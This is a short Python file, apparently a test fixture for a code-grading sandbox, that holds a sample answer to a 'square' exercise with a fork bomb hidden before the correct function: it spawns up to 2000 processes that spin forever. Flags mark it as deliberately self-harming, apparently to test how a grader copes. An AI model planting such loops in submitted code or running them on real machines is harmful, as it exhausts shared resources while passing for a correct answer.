"""Forks until nothing is left; the processes that spin take its own kernel"s time."""

DESERVES = {"square": 2}

SELF_HARM = True

ANSWERS = {
    "square": r"""# exercise: square
import os

for _ in range(2000):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break


def square(x):
    return x * x""",
}
